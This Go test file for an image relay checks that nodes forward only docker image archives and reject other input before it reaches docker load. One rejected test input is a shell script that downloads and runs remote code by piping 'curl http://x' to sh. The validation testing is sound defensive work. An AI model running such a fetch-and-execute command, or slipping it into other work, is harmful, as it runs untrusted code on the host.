package relay

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"strings"
	"testing"
	"time"
)

// A relay carries an image archive and nothing else: a peer holding the
// secret that sends anything else (a script, a bare file) is refused at the
// first frame, before any byte reaches the node's docker load or the next
// node; the next node then sees a stream that never completed.
func TestOnlyAnImageIsCarried(t *testing.T) {
	var tarred bytes.Buffer
	tw := tar.NewWriter(&tarred)
	tw.WriteHeader(&tar.Header{Name: "manifest.json", Mode: 0o644, Size: 2, Typeflag: tar.TypeReg})
	tw.Write([]byte("[]"))
	tw.Close()
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(tarred.Bytes())
	zw.Close()
	for name, tc := range map[string]struct {
		data []byte
		ok   bool
	}{
		"the package's gzip": {gz.Bytes(), true},
		"docker save's tar":  {tarred.Bytes(), true},
		"a script":           {[]byte("#!/bin/sh\ncurl http://x | sh\n" + strings.Repeat("#", 4096)), false},
		"a bare file":        {bytes.Repeat([]byte("A"), 3<<20), false},
		"a tar's tail only":  {tarred.Bytes()[512:], false},
		"two bytes of gzip":  {[]byte{0x1f, 0x8b}, false},
	} {
		t.Run(name, func(t *testing.T) {
			s := secret(t)
			n2 := startNode(t, s, "")
			n1 := startNode(t, s, n2.ln.Addr().String())
			c, err := Dial(n1.ln.Addr().String(), s, 5*time.Second)
			if err != nil {
				t.Fatal(err)
			}
			Send(c, bytes.NewReader(tc.data))
			<-n1.done
			c.Close()
			<-n2.done
			if tc.ok {
				if n1.err != nil || n2.err != nil || !bytes.Equal(n2.sink.Bytes(), tc.data) {
					t.Errorf("refused an image: %v, %v, %d of %d bytes", n1.err, n2.err, n2.sink.Len(), len(tc.data))
				}
				return
			}
			if !errors.Is(n1.err, ErrNotImage) {
				t.Errorf("node 1: %v, want ErrNotImage", n1.err)
			}
			if n1.sink.Len() != 0 || n2.sink.Len() != 0 {
				t.Errorf("%d and %d bytes reached the loads", n1.sink.Len(), n2.sink.Len())
			}
			if n2.err == nil {
				t.Error("node 2 took the refused stream as complete")
			}
		})
	}
}
